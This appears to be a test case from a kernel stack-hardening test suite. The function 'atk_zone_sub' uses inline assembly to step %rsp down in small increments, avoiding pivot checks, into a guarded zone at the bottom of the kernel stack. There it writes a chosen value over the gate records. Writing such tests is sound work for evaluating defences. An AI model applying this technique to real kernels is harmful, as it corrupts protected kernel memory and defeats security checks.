// SPDX-License-Identifier: GPL-2.0
/*
 * atk_zone_sub: no push and no pivot check: a loop of small constant
 * moves (sub $0x100, %rsp, the form a prologue uses) walks %rsp down into
 * the zone at the bottom of the task's kernel stack, and a store at
 * 0(%rsp), which bounds.c leaves unchecked (the frame's own slots), writes
 * a chosen value over the gate records there.  %rsp is put back by a mov
 * and the attack returns.
 */
#include <linux/fs.h>
#include <asm/page_64_types.h>
#include "attack.h"

static int attack(struct file *f)
{
	unsigned long evil = 0x4141414141414141UL;

	/* down to 1 KiB above the stack's bottom: inside the zone */
	asm volatile("mov %%rsp, %%rdx\n\t"
		     "mov %%rsp, %%rcx\n\t"
		     "and %[mask], %%rcx\n\t"
		     "add $0x400, %%rcx\n\t"
		     "1: sub $0x100, %%rsp\n\t"
		     "cmp %%rcx, %%rsp\n\t"
		     "ja 1b\n\t"
		     "mov %%rax, 0(%%rsp)\n\t"
		     "mov %%rdx, %%rsp"
		     : : "a"(evil), [mask] "i"(~(THREAD_SIZE - 1L))
		     : "rcx", "rdx", "memory", "cc");
	return 0;
}
